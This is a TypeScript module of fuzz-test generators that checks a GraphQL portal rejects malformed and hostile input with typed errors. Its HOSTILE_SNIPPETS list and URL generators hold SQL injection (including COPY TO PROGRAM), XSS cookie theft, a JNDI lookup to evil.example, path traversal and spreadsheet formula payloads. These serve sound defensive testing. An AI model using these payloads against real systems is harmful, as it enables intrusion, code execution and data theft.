/**
 * Building blocks of the reliability fuzz (test/api/fuzz.test.ts): the mutations as the published
 * schema declares them, values that GraphQL itself must refuse for a type, hostile values the
 * portal's own rules must refuse for a field, and the check that every refusal is typed.
 */

import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import {
  buildSchema, getNamedType, getNullableType, isEnumType, isInputObjectType, isLeafType, isListType, isNonNullType, isScalarType,
  type GraphQLArgument, type GraphQLField, type GraphQLInputType, type GraphQLObjectType, type GraphQLSchema,
} from 'graphql';
import { toGlobalId } from '@portal/kernel';

/** An HTTP answer of the gateway: its status, its text and the JSON it holds (null when not JSON). */
export interface HttpAnswer {
  status: number;
  text: string;
  body: unknown;
}

// ---------------------------------------------------------------------------------------------
// The schema
// ---------------------------------------------------------------------------------------------

/** The published schema (schema/schema.graphql), as clients see it. */
export function loadPublishedSchema(): GraphQLSchema {
  return buildSchema(readFileSync(new URL('../../schema/schema.graphql', import.meta.url), 'utf8'));
}

export function mutationFields(schema: GraphQLSchema): GraphQLField<unknown, unknown>[] {
  return Object.values(schema.getMutationType()!.getFields());
}

/** The `input` argument of a mutation, or null for the few that take none (logOut…). */
export function inputArgument(field: GraphQLField<unknown, unknown>): GraphQLArgument | null {
  return field.args.find((a) => a.name === 'input') ?? null;
}

/** The selection of a payload: its leaves, userErrors in full, `__typename` of the objects it returns. */
function payloadSelection(payload: GraphQLObjectType): string {
  return Object.values(payload.getFields())
    .map((f) => {
      if (f.name === 'userErrors') return 'userErrors { code message field }';
      return isLeafType(getNamedType(f.type)) ? f.name : `${f.name} { __typename }`;
    })
    .join(' ');
}

/**
 * How the request is written. Most cases send a well-formed document and put the hostile value in
 * the variables; the others break the document itself.
 */
export type DocumentVariant = 'variables' | 'argumentMissing' | 'argumentUnknown' | 'variableMistyped';

export function mutationDocument(field: GraphQLField<unknown, unknown>, variant: DocumentVariant): string {
  const selection = payloadSelection(getNamedType(field.type) as GraphQLObjectType);
  const arg = inputArgument(field);
  const typeName = arg ? String(arg.type) : 'String';
  switch (variant) {
    case 'variables':
      return arg
        ? `mutation Fuzz($input: ${typeName}) { ${field.name}(input: $input) { ${selection} } }`
        : `mutation Fuzz { ${field.name} { ${selection} } }`;
    case 'argumentMissing':
      // Without its required input; a mutation that takes none gets one it does not know.
      return `mutation Fuzz { ${field.name}${arg ? '' : '(input: {})'} { ${selection} } }`;
    case 'argumentUnknown':
      return `mutation Fuzz($input: ${typeName}) { ${field.name}(${arg ? 'input: $input, ' : ''}sudo: true) { ${selection} } }`;
    case 'variableMistyped':
      return `mutation Fuzz($input: [Boolean!]) { ${field.name}(input: $input) { ${selection} } }`;
  }
}

/**
 * The type an input path leads to (["input", "headOffice", "iban"], ["input", "ids", "3"]), or
 * null when the path names nothing of the mutation's arguments.
 */
export function typeAtPath(field: GraphQLField<unknown, unknown>, path: readonly string[]): GraphQLInputType | null {
  const [argName, ...rest] = path;
  let type: GraphQLInputType | undefined = field.args.find((a) => a.name === argName)?.type;
  for (const segment of rest) {
    if (!type) return null;
    const nullable = getNullableType(type);
    if (isListType(nullable)) {
      if (!/^(0|[1-9][0-9]*)$/.test(segment)) return null;
      type = nullable.ofType as GraphQLInputType;
    } else if (isInputObjectType(nullable)) {
      type = nullable.getFields()[segment]?.type;
    } else {
      return null;
    }
  }
  return type ?? null;
}

/** Every field path of an input type ("headOffice.iban"), with its type and whether it may be left out. */
export function inputPaths(type: GraphQLInputType, prefix = ''): { path: string; type: GraphQLInputType; required: boolean }[] {
  const object = getNullableType(type);
  if (!isInputObjectType(object)) return [];
  return Object.values(object.getFields()).flatMap((f) => {
    const path = prefix ? `${prefix}.${f.name}` : f.name;
    const required = isNonNullType(f.type) && f.defaultValue === undefined;
    return [{ path, type: f.type, required }, ...inputPaths(f.type, path)];
  });
}

// ---------------------------------------------------------------------------------------------
// Inputs: a valid base and the patches that break it
// ---------------------------------------------------------------------------------------------

/** A key left out of the input object. */
export const OMIT = Symbol('omitted');

/**
 * A change to an input, by path ("headOffice.iban": value, or OMIT). The empty path replaces the
 * whole input. A patch is meant to make the input refused whatever the other fields hold.
 */
export type Patch = Readonly<Record<string, unknown>>;

export const patch = (path: string, value: fc.Arbitrary<unknown>): fc.Arbitrary<Patch> => value.map((v) => ({ [path]: v }));

/** Sets an own property, even "__proto__" (JSON then carries it as a key like any other). */
function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/** A deep copy that leaves OMIT out. */
function withoutOmitted(value: unknown): unknown {
  if (Array.isArray(value)) return value.filter((v) => v !== OMIT).map(withoutOmitted);
  if (value === null || typeof value !== 'object') return value;
  const copy: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(value)) if (v !== OMIT) setOwn(copy, k, withoutOmitted(v));
  return copy;
}

/**
 * Applies patches in order to a copy of the base; the last patch survives whole, so it alone makes
 * the input invalid. Keys set to OMIT (in the base or a patch) are left out.
 */
export function applyPatches(base: Record<string, unknown>, patches: readonly Patch[]): unknown {
  let input: unknown = withoutOmitted(base);
  for (const p of patches) {
    for (const [path, value] of Object.entries(p)) {
      if (path === '') {
        input = value;
        continue;
      }
      if (input === null || typeof input !== 'object' || Array.isArray(input)) input = {};
      const keys = path.split('.');
      let target = input as Record<string, unknown>;
      for (const key of keys.slice(0, -1)) {
        const next = Object.hasOwn(target, key) ? target[key] : undefined;
        if (next === null || typeof next !== 'object' || Array.isArray(next)) setOwn(target, key, {});
        target = target[key] as Record<string, unknown>;
      }
      const last = keys.at(-1)!;
      if (value === OMIT) delete target[last];
      else setOwn(target, last, withoutOmitted(value));
    }
  }
  return input;
}

/** JSON cannot carry NaN or infinities (they would arrive as null, which may be valid). */
const finiteDouble = fc.double({ noNaN: true, noDefaultInfinity: true });
const nonIntegralDouble = finiteDouble.filter((d) => !Number.isInteger(d));

/**
 * Values that GraphQL's input coercion refuses for a type, whatever the resolver would think of
 * them: wrong scalar kinds, out-of-range Int, unknown enum names, null for a non-null type.
 */
export function uncoercible(type: GraphQLInputType): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return fc.oneof(fc.constant(null), uncoercible(type.ofType as GraphQLInputType));
  if (isListType(type)) {
    const item = uncoercible(type.ofType as GraphQLInputType);
    // A single value is coerced to a list of one: it must be wrong as an item, and be neither a list
    // itself nor null (null is the list's own value when the list is nullable).
    return fc.oneof(fc.array(item, { minLength: 1, maxLength: 3 }), item.filter((v) => v !== null && !Array.isArray(v)));
  }
  if (isEnumType(type)) {
    const names = new Set(type.getValues().map((v) => v.name));
    return fc.oneof(
      fc.constantFrom('', 'ADMIN', 'ROOT', 'NONE_OF_THESE', "' OR 1=1 --", '__proto__', 'null').filter((s) => !names.has(s)),
      fc.constantFrom(...names).map((n) => n.toLowerCase()).filter((s) => !names.has(s)),
      fc.constantFrom(...names).map((n) => ` ${n}`),
      fc.integer(),
      fc.boolean(),
      fc.constant({}),
    );
  }
  if (isInputObjectType(type)) return fc.oneof(fc.string(), fc.integer(), fc.boolean(), fc.constant([[]]));
  if (isScalarType(type)) {
    switch (type.name) {
      case 'String':
        return fc.oneof(fc.integer(), finiteDouble, fc.boolean(), fc.constant({}), fc.constant({ toString: 'x' }), fc.array(fc.string(), { minLength: 1, maxLength: 2 }));
      case 'ID':
        return fc.oneof(nonIntegralDouble, fc.boolean(), fc.constant({}), fc.array(fc.string(), { minLength: 1, maxLength: 2 }));
      case 'Int':
        return fc.oneof(
          fc.constantFrom('12', '90', '', 'NaN', 'Infinity', '1e3', '0x10'),
          nonIntegralDouble,
          fc.oneof(fc.integer({ min: 2 ** 31, max: Number.MAX_SAFE_INTEGER }), fc.integer({ min: Number.MIN_SAFE_INTEGER, max: -(2 ** 31) - 1 })),
          fc.constantFrom(1e21, -1e21, 2 ** 53),
          fc.boolean(),
          fc.constant({}),
        );
      case 'Boolean':
        return fc.oneof(fc.constantFrom('true', 'false', 'yes', '', '1'), fc.integer({ min: 0, max: 1 }), fc.constant({}));
      default:
        return fc.oneof(fc.constant({}), fc.array(fc.integer(), { minLength: 1, maxLength: 2 }));
    }
  }
  return fc.constant(Symbol.for('never'));
}

/**
 * Patches that break an input through its GraphQL type alone: a field of the wrong kind, a
 * required field left out, an unknown field, or the whole input of the wrong kind.
 */
export function typeBreaks(inputType: GraphQLInputType): fc.Arbitrary<Patch>[] {
  const paths = inputPaths(inputType);
  const objectPaths = ['', ...paths.filter((p) => isInputObjectType(getNullableType(p.type))).map((p) => p.path)];
  const required = paths.filter((p) => p.required);
  return [
    fc.constantFrom(...paths).chain((p) => patch(p.path, uncoercible(p.type))),
    ...(required.length ? [fc.constantFrom(...required).map((p) => ({ [p.path]: OMIT }))] : []),
    fc.tuple(fc.constantFrom(...objectPaths), fc.constantFrom('isAdmin', 'id', '__proto__', 'constructor', 'role', 'companyId ')).map(([at, key]) => ({ [at ? `${at}.${key}` : key]: true })),
    patch('', fc.oneof(fc.constant(null), fc.string(), fc.constant([]), fc.integer())),
  ];
}

// ---------------------------------------------------------------------------------------------
// Hostile text
// ---------------------------------------------------------------------------------------------

/** Text that attacks something (SQL, HTML, templates, shells, spreadsheets, Unicode handling). */
export const HOSTILE_SNIPPETS = [
  "Robert'); DROP TABLE company; --", "' OR '1'='1", "1; SELECT pg_sleep(10); --", '" OR ""="', "%' AND 1=1 --", "'; COPY app_user TO PROGRAM 'id'; --",
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.cookie)>', 'javascript:alert(1)',
  '{{7*7}}', '${7*7}', '#{7*7}', '${jndi:ldap://evil.example/a}', '../../../../etc/passwd', '%00', '%s%s%s%n', '\\\\', '\\u0000',
  'NULL', 'null', 'undefined', 'NaN', '-Infinity', 'true', '[]', '{}', '__proto__', 'constructor',
  '=cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '+33 (0)1 23',
  'Zoë Ünïcødé', 'Ελληνικά', '日本語テキスト', 'עברית', 'العربية', '\u202Eexe.txt', 'e\u0301\u0301\u0301', '👩‍👩‍👧‍👦', '🏳️‍🌈', '\u200B', 'Ｆｕｌｌｗｉｄｔｈ',
  'Z̷̢̛a̸l̵g̶o̵', 'a\tb', 'line1\nline2', '\u0007bell\u001b[31m', 'ß', 'ﬃ', 'İı',
];

const wellFormed = (s: string) => s.isWellFormed() && !s.includes('\u0000');

/**
 * Text a free-text field may well accept (non-blank, at most `max` UTF-16 units, storable): the
 * hostile snippets and random Unicode. Used in valid bases only: it is never the reason a case is
 * refused.
 */
export function acceptableText(max: number): fc.Arbitrary<string> {
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_SNIPPETS) },
      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: Math.min(max, 40) }) },
      { weight: 1, arbitrary: fc.constantFrom('Dupont', 'Marie-Hélène', "L'Haÿ-les-Roses", 'Siège', 'Ñandú') },
    )
    .filter((s) => s.trim() !== '' && s.length <= max && wellFormed(s));
}

/** Blank for the portal: empty, or only what String.prototype.trim removes. */
export const blankText = fc.constantFrom('', ' ', '   ', '\t', '\n', '\r\n', '\u00a0', '\u3000', '\ufeff', ' \t\n ');

/** Longer than `max` UTF-16 units, up to 10,000: a limit must refuse it before the database does. */
export function tooLong(max: number, upTo = 10_000): fc.Arbitrary<string> {
  const filler = fc.constantFrom('a', 'é', '€', 'x ', '日', "'", '<b>', '0', '9');
  const length = fc.oneof(fc.integer({ min: max + 1, max: max + 3 }), fc.integer({ min: max + 1, max: Math.max(max + 1, upTo) }), fc.constant(Math.max(max + 1, upTo)));
  return fc.tuple(length, filler).map(([n, c]) => c.repeat(Math.ceil(n / c.length)).slice(0, n));
}

/**
 * Text that cannot be stored at all: a NUL character (PostgreSQL text refuses it) or a lone
 * UTF-16 surrogate (not Unicode; would be stored altered). The portal must refuse it, typed.
 */
export const unstorableText = fc
  .tuple(fc.constantFrom('', 'Dupont', 'E-0000000010', 'a@b.fr', '2027-01-15', 'FR7630006000011234567890189'), fc.constantFrom('\u0000', '\ud800', '\udfff', '\ud83d', 'x\u0000\u0000'), fc.nat())
  .map(([text, bad, at]) => text.slice(0, at % (text.length + 1)) + bad + text.slice(at % (text.length + 1)));

/** Mostly `main`; sometimes unstorable text (one global rule: tried on every field, not at every turn). */
export const orUnstorable = (main: fc.Arbitrary<string>): fc.Arbitrary<string> => fc.oneof({ weight: 6, arbitrary: main }, { weight: 1, arbitrary: unstorableText });

// ---------------------------------------------------------------------------------------------
// Identifiers
// ---------------------------------------------------------------------------------------------

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64url');

/** Ids that name nothing: malformed, of no type, of a number nobody has, out of any integer range. */
export function unknownIds(type: string): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom('', ' ', 'null', 'undefined', '0', '-1', '24', '1e3', 'true', '{}', "' OR 1=1 --", '../1', '%00'),
    fc.constantFrom(`${type}`, `${type}:`, `${type}:0`, `${type}:-1`, `${type}:1.5`, `${type}:0x18`, `${type}: 24`, `${type}:24 `, `${type}:024`, `${type}:1e3`,
      `${type}:9007199254740993`, `${type}:99999999999999999999`, `:24`, `${type.toLowerCase()}:24`, `Nope:24`, `${type}:24;drop table company`).map(b64),
    fc.integer({ min: 1_000_000, max: 2 ** 31 - 1 }).map((n) => toGlobalId(type, n)),
    fc.integer({ min: 2 ** 31, max: Number.MAX_SAFE_INTEGER }).map((n) => toGlobalId(type, n)),
    tooLong(100, 400).map(b64),
    { weight: 1, arbitrary: unstorableText },
  );
}

/** Ids of a real object of another type (a Site id where a Company is expected…). */
export const idOfAnotherType = (type: string, numbers: number[]) =>
  fc.tuple(fc.constantFrom(...['Company', 'Site', 'Contact', 'User', 'ApiToken', 'ContractedOffer', 'Invoice'].filter((t) => t !== type)), fc.constantFrom(...numbers)).map(([t, n]) => toGlobalId(t, n));

/** Unknown ids, real ids of another type, and the given real ids of objects out of the caller's reach. */
export function invalidIds(type: string, outOfReach: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: unknownIds(type) },
    { weight: 1, arbitrary: idOfAnotherType(type, [1, 2, 3, 4, 5, 10, 24]) },
    ...(outOfReach.length ? [{ weight: 3, arbitrary: fc.constantFrom(...outOfReach) }] : []),
  );
}

// ---------------------------------------------------------------------------------------------
// Dates (today is fixed by the test portal's clock)
// ---------------------------------------------------------------------------------------------

const pad = (n: number, width = 2) => String(n).padStart(width, '0');
const isoDay = (d: Date) => d.toISOString().slice(0, 10);

/** Real calendar dates from `from` to `days` later, YYYY-MM-DD. */
export function datesFrom(from: string, days: number): fc.Arbitrary<string> {
  const start = Date.parse(`${from}T12:00:00Z`);
  return fc.integer({ min: 0, max: days }).map((n) => isoDay(new Date(start + n * 86_400_000)));
}

/**
 * Dates a "today or later" field must refuse: days that do not exist (30 February, 31 April, 29
 * February of a common year), in any year, other formats, past days, and no date at all.
 */
export function invalidDates(today: string): fc.Arbitrary<string> {
  const year = fc.integer({ min: 2020, max: 2035 });
  const impossible = fc.oneof(
    fc.tuple(year, fc.constantFrom('02-30', '02-31', '04-31', '06-31', '09-31', '11-31', '13-01', '00-10', '01-00', '01-32', '12-99')).map(([y, md]) => `${y}-${md}`),
    fc.constantFrom(2027, 2029, 2030, 2031, 2033).map((y) => `${y}-02-29`),
  );
  const past = datesFrom('1900-01-01', 46_000).filter((d) => d < today);
  const misformatted = fc.oneof(
    fc.constantFrom('31/12/2026', '12/31/2026', '2026/12/31', '20261231', '2026-1-5', '26-12-31', '2026-12-31T00:00:00Z', '2026-12-31 ', ' 2026-12-31',
      '2026-12-31\n', '+002026-12-31', '２０２６-１２-３１', 'tomorrow', 'demain', 'NaN', 'Invalid Date', '0000-00-00', '9999-99-99', '1e9', "2026-12-31' OR '1'='1"),
    datesFrom(today, 800).map((d) => d.replaceAll('-', '/')),
    datesFrom(today, 800).map((d) => `${d.slice(8)}/${d.slice(5, 7)}/${d.slice(0, 4)}`),
  );
  return orUnstorable(fc.oneof(impossible, past, misformatted, blankText, tooLong(10, 2_000)));
}

/** Real dates more than `years` ahead of today, up to the last day of year 9999. */
export function datesBeyond(today: string, years: number): fc.Arbitrary<string> {
  const [y, m, d] = today.split('-').map(Number) as [number, number, number];
  const first = isoDay(new Date(Date.UTC(y + years, m - 1, d + 1)));
  return fc.oneof(fc.constantFrom('9999-12-31', '9999-01-31', '5000-02-29', '2100-01-01'), datesFrom(first, 2_000));
}

// ---------------------------------------------------------------------------------------------
// Company data: e-mail, phone, IBAN, BIC, SIREN, web address, address
// ---------------------------------------------------------------------------------------------

/** E-mail addresses the portal refuses: no @, two @, spaces, no dot in the domain, or longer than 254. */
export const invalidEmails = orUnstorable(fc.oneof(
  fc.constantFrom('plainaddress', '@example.fr', 'a@', 'a@b', 'a@@b.fr', 'a@b@c.fr', 'a b@c.fr', 'a@b .fr', 'a@b.', "'; DROP TABLE contact; --@x.fr",
    'a@.', '<script>@x.fr alert(1)', 'jean.dupont', 'jean.dupont@', 'mailto:jean@x.fr foo', 'a\nb@c.fr', '"a"@b', '@'),
  fc.integer({ min: 245, max: 2_000 }).map((n) => `${'a'.repeat(n)}@example.fr`),
  blankText.filter((s) => s !== ''),
));
export const validEmails = fc.oneof(fc.constantFrom('jean.dupont@example.fr', 'a@b.co', "o'brien+tag@sub.example.org", 'ÉLODIE@exemple.fr'), fc.emailAddress().filter((e) => e.length <= 254 && /^[^@\s]+@[^@\s]+\.[^@\s]+$/.test(e)));

/** Phone numbers refused: letters, fewer than 6 characters, more than 30, a + elsewhere than first. */
export const invalidPhones = orUnstorable(fc.oneof(
  fc.constantFrom('abc', '12345', '+3312', '06 12 34 56 78 ext 9', '++33123456789', '33+123456789', '0612345678;', 'tel:0612345678', '06\n12345678', '０６１２３４５６７８'),
  fc.integer({ min: 31, max: 60 }).map((n) => `+${'1'.repeat(n - 1)}`),
  fc.integer({ min: 31, max: 200 }).map((n) => '0'.repeat(n)),
  fc.integer({ min: 16, max: 40 }).map((n) => '+33 '.padEnd(n * 2, '6 ')),
));
export const validPhones = fc.constantFrom('+33 1 23 45 67 89', '0123456789', '+33442270001', '(01) 23.45.67-89', '+' + '1'.repeat(29));

/** The mod-97 check of ISO 13616, computed here independently of the portal. */
function ibanRemainder(iban: string): number {
  const rearranged = iban.slice(4) + iban.slice(0, 4);
  let r = 0;
  for (const ch of rearranged) {
    const digits = /[A-Z]/.test(ch) ? String(ch.charCodeAt(0) - 55) : ch;
    for (const d of digits) r = (r * 10 + Number(d)) % 97;
  }
  return r;
}
const withCheckDigits = (country: string, bban: string) => {
  const r = ibanRemainder(`${country}00${bban}`);
  return `${country}${pad(98 - r)}${bban}`;
};
const bban = fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 23, maxLength: 23 }).map((d) => d.join(''));
export const validIbans = fc.oneof(bban.map((b) => withCheckDigits('FR', b)), fc.constantFrom('FR76 3000 6000 0112 3456 7890 189', 'DE89370400440532013000', 'fr7630006000011234567890189'));

/** IBANs refused: a changed digit (mod-97 catches every one), bad shape, too short or too long. */
export const invalidIbans = orUnstorable(fc.oneof(
  fc.tuple(bban, fc.integer({ min: 0, max: 22 }), fc.integer({ min: 1, max: 9 })).map(([b, at, delta]) => {
    const iban = withCheckDigits('FR', b);
    const i = 4 + at;
    return iban.slice(0, i) + String((Number(iban[i]) + delta) % 10) + iban.slice(i + 1);
  }),
  fc.constantFrom('FR76', 'FR76300060000112345678901890000000000', '7630006000011234567890189', 'FRXX30006000011234567890189', 'XX', 'IBAN', 'FR76-3000-6000-0112-3456-7890-189',
    "FR76' OR 1=1 --", 'FR00000000000000000000000000', 'ＦＲ７６３０００６００００１１２３４５６７８９０１８９'),
  tooLong(34, 3_000).map((s) => `FR76${s}`),
));
export const validBics = fc.constantFrom('BNPAFRPP', 'BNPAFRPPXXX', 'CEPAFRPP751', 'bnpa frpp');
export const invalidBics = orUnstorable(fc.oneof(
  fc.constantFrom('BNPAFRP', 'BNPAFRPPX', 'BNPAFRPPXX', 'BNPAFRPPXXXX', '1234FRPP', 'BNPA12PP', 'BNPA-FRPP', 'BNPAFR!P', 'BNPÀFRPP', "BNPA' OR 1", '0', '-'),
  tooLong(11, 2_000),
));

/** The Luhn check of a SIREN, computed here independently of the portal. */
function luhnOk(digits: string): boolean {
  let sum = 0;
  for (let i = 0; i < digits.length; i++) {
    let d = Number(digits[digits.length - 1 - i]);
    if (i % 2 === 1) d = d * 2 > 9 ? d * 2 - 9 : d * 2;
    sum += d;
  }
  return sum % 10 === 0;
}
const eightDigits = fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 8, maxLength: 8 }).map((d) => d.join(''));
export const validSirens = fc.oneof(eightDigits.map((b) => b + [...'0123456789'].find((c) => luhnOk(b + c))!), fc.constantFrom('552100554', '732829320'));
/** SIRENs refused: a wrong check digit, 8 or 10 digits, letters, spaces, signs. */
export const invalidSirens = orUnstorable(fc.oneof(
  fc.tuple(eightDigits, fc.integer({ min: 0, max: 9 })).map(([b, c]) => b + String(c)).filter((s) => !luhnOk(s)),
  fc.constantFrom('55210055', '5521005540', '552 100 554', ' 552100554', '552100554 ', '55210055A', '-55210055', '+55210055', '552100554\n', '５５２１００５５４', "552' OR '1", 'SIREN'),
  blankText.filter((s) => s !== ''),
));

/** Web addresses refused: another scheme, no host, spaces, longer than 300 characters. */
export const invalidWebsites = orUnstorable(fc.oneof(
  fc.constantFrom('javascript:alert(1)', 'JAVASCRIPT:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', 'ftp://example.fr', 'file:///etc/passwd',
    'www.example.fr', '//example.fr', 'http://', 'https://', 'https:// example.fr', 'https://exa mple.fr', 'https://$', 'http://.', 'http://?', 'example', 'https:/example.fr', 'vbscript:msgbox'),
  fc.integer({ min: 301, max: 5_000 }).map((n) => `https://example.fr/${'a'.repeat(n - 19)}`),
  blankText.filter((s) => s !== ''),
));
export const validWebsites = fc.constantFrom('https://example.fr', 'http://example.org/path?q=1#x', 'https://sous.domaine.example/chemin/à/accents');

/** French postal codes refused (the bases keep the country FR): not five ASCII digits. */
export const invalidFrenchPostalCodes = orUnstorable(fc.oneof(
  fc.constantFrom('7500', '750011', 'ABCDE', '75 001', '75-001', '７５００１', "75001' --", '2A004', '-7500', '1e4'),
  fc.integer({ min: 11, max: 3_000 }).map((n) => '9'.repeat(n)),
  blankText,
));
/** Country codes refused: not two letters A-Z once upper-cased. */
export const invalidCountries = orUnstorable(fc.oneof(fc.constantFrom('FRA', 'F', '12', 'F1', 'É1', 'ÉÉ', 'F R', '--', "F'"), blankText.filter((s) => s !== ''), tooLong(2, 500)));

// ---------------------------------------------------------------------------------------------
// Answers
// ---------------------------------------------------------------------------------------------

/** Codes of GraphQL errors that are a typed refusal. */
export const TYPED_ERROR_CODES = new Set([
  'BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED', 'GRAPHQL_PARSE_FAILED', 'UNAUTHENTICATED', 'TERMS_NOT_ACCEPTED', 'FORBIDDEN', 'NOT_FOUND',
  'TOO_MANY_VALUES', 'BAD_REQUEST', 'SECOND_FACTOR_REQUIRED',
]);

/**
 * userErrors codes that are about the whole operation, not a field (the caller may not do this at
 * all, or a login failed without saying which part was wrong): their `field` is null.
 */
export const OPERATION_LEVEL_CODES = new Set([
  'FORBIDDEN', 'RESELLER_UNIVERSE_REQUIRED', 'SESSION_REQUIRED', 'INVALID_CREDENTIALS', 'LOGIN_THROTTLED',
  // The caller's second factors as a whole: none to remove, already one, the last one the company requires.
  'TOTP_ALREADY_ENROLLED', 'TOTP_NOT_ENROLLED', 'SECOND_FACTOR_NOT_ENROLLED', 'SECOND_FACTOR_REQUIRED_BY_COMPANY',
]);

/**
 * What is wrong with the answer to a refused input (empty when it is a typed refusal): no 5xx,
 * no internal error, every GraphQL error typed; otherwise a payload with userErrors, each with a
 * code and the path of an input field, and nothing else returned.
 */
export function refusalProblems(field: GraphQLField<unknown, unknown>, res: HttpAnswer, input: unknown, opts: { uniformAnswer?: Record<string, unknown> } = {}): string[] {
  const problems: string[] = [];
  if (res.status >= 500) problems.push(`HTTP ${res.status}`);
  const body = res.body as { data?: unknown; errors?: { message: string; extensions?: Record<string, unknown> }[]; code?: unknown; statusCode?: unknown } | null;
  if (body === null || typeof body !== 'object') return [...problems, `not JSON: ${res.text.slice(0, 200)}`];
  // Refused by the HTTP server before GraphQL (a malformed or poisoned JSON body): a 4xx with a code.
  if (!('data' in body) && !('errors' in body)) {
    if (res.status < 400 || res.status >= 500 || typeof body.code !== 'string') problems.push(`neither GraphQL nor a typed HTTP refusal: ${res.text.slice(0, 200)}`);
    return problems;
  }
  const errors = body.errors;
  const data = body.data;
  if (errors?.length) {
    for (const e of errors) {
      const code = e.extensions?.code;
      if (typeof code !== 'string' || !TYPED_ERROR_CODES.has(code)) problems.push(`error not typed: ${String(code)}: ${e.message}`);
      if (/unexpected error|internal server error/i.test(e.message)) problems.push(`internal error message: ${e.message}`);
      const at = e.extensions?.field;
      if (at != null && !(Array.isArray(at) && typeAtPath(field, at as string[]))) problems.push(`error field ${JSON.stringify(at)} names no input field`);
    }
    const payload = (data as Record<string, unknown> | null | undefined)?.[field.name];
    if (payload != null) problems.push('both errors and a payload');
    return problems;
  }
  if (res.status !== 200) problems.push(`HTTP ${res.status} without errors`);
  const payload = (data as Record<string, unknown> | null | undefined)?.[field.name] as Record<string, unknown> | null | undefined;
  if (!payload) return [...problems, 'no payload and no error'];
  if (opts.uniformAnswer) {
    if (JSON.stringify(payload) !== JSON.stringify(opts.uniformAnswer)) problems.push(`answer differs from the uniform one: ${JSON.stringify(payload)}`);
    return problems;
  }
  const userErrors = payload.userErrors as { code?: unknown; message?: unknown; field?: unknown }[] | undefined;
  if (!Array.isArray(userErrors) || userErrors.length === 0) return [...problems, `accepted: ${JSON.stringify(payload).slice(0, 300)}`];
  for (const ue of userErrors) {
    if (typeof ue.code !== 'string' || !/^[A-Z][A-Z0-9_]*$/.test(ue.code)) problems.push(`userError without a code: ${JSON.stringify(ue)}`);
    if (typeof ue.message !== 'string' || ue.message.trim() === '') problems.push(`userError without a message: ${JSON.stringify(ue)}`);
    if (ue.field === null) {
      if (!OPERATION_LEVEL_CODES.has(String(ue.code))) problems.push(`userError ${String(ue.code)} without a field path`);
    } else if (!Array.isArray(ue.field) || ue.field.length < 2 || ue.field[0] !== 'input' || !typeAtPath(field, ue.field as string[])) {
      problems.push(`userError ${String(ue.code)} field ${JSON.stringify(ue.field)} names no input field`);
    } else {
      const index = (ue.field as string[]).findIndex((s) => /^[0-9]+$/.test(s));
      if (index > 0) {
        const list = (ue.field as string[]).slice(1, index).reduce<unknown>((v, k) => (v as Record<string, unknown> | undefined)?.[k], input);
        if (!Array.isArray(list) || Number(ue.field[index]) >= list.length) problems.push(`userError ${String(ue.code)} field ${JSON.stringify(ue.field)}: no such item`);
      }
    }
  }
  for (const [name, value] of Object.entries(payload)) {
    if (name === 'userErrors') continue;
    if (value !== null && !(Array.isArray(value) && value.length === 0)) problems.push(`refused, yet returns ${name}: ${JSON.stringify(value).slice(0, 200)}`);
  }
  return problems;
}
